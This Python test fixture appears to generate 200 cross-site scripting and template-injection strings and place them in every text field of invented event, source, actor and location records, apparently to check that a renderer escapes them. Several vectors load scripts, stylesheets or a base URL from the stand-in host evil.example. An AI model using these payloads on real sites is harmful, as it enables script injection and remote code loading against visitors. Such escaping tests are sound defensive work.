"""Two hundred words that would run a script, or ask a stranger, wherever a page took them for more than words."""

from itertools import product
from typing import Any

from tests.invented import Line

BREAKOUTS = (
    "", '">', "'>", "`>", ">", '"', "' ", "\\\">", "</title>", "</script>", "</style>", "</textarea>", "</svg>",
    "</text>", "</a>", "</template>", "-->", "]]>", "{{7*7}}", "${7*7}", "%22%3E", "&quot;&gt;", "&#34;>", "\u202e",
    "</metadata>",
)  # fmt: skip
VECTORS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/a.js></script>",
    "<img src=//evil.example/a.png onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>a</a>",
    "<style>@import url(//evil.example/a.css)</style><base href=//evil.example/>",
    ' onmouseover=alert(1) style=background:url(//evil.example/a.png) x="',
)
PAYLOADS = [f"{breakout}{vector}" for breakout, vector in product(BREAKOUTS, VECTORS)]


def lines_of(payloads: list[str]) -> list[Line]:
    """For each an event, with records of its own around it, whose every text is this one."""
    return [line for number, payload in enumerate(payloads) for line in _lines(number, payload)]


def _lines(number: int, text: str) -> list[Line]:
    event: dict[str, Any] = {
        "kind": "event", "id": f"e{number}", "title": text, "summary": text, "date": "2020-03-02", "date_basis": text,
        "type": "consult", "modality": "occurred", "tags": ["fishing"], "locations": [f"l{number}"],
        "actors": [{"actor": f"a{number}", "role": "host"}],
        "quantities": [{"measure": "distance", "value": 5, "unit": "km"}],
        "citations": [
            {"key": "c", "source": f"s{number}", "passage": {"starts": text, "ends": text}, "note": text,
             "attributed_to": f"a{number}"},
            {"key": "r", "source": f"s{number}", "stance": "disputes", "supports": ["summary"], "note": text},
        ],
        "claims": [
            {"field": "summary", "value": f"No: {text}", "rank": "deprecated", "citations": ["r"], "note": text},
        ],
        "corrections": [{"what": text, "when": "2020-04-01", "why": text}],
    }  # fmt: skip
    return [
        {"kind": "publisher", "id": f"p{number}", "name": text, "reference": text},
        {
            "kind": "source", "id": f"s{number}", "title": text, "publisher": f"p{number}", "authors": [text],
            "published": "2020-03-03", "language": "en", "corrections": [text], "note": text,
            "url": f"https://news.example/{number}?a='b'&c=d",
        },
        {
            "kind": "actor", "id": f"a{number}", "name": text, "type": "person", "aliases": [text],
            "positions": [{"title": text}], "reference": text, "note": text,
        },
        {
            "kind": "location", "id": f"l{number}", "name": text, "type": "site", "aliases": [text], "latitude": 60.5,
            "longitude": 5.25, "reference": text, "note": text,
        },
        event,
    ]  # fmt: skip
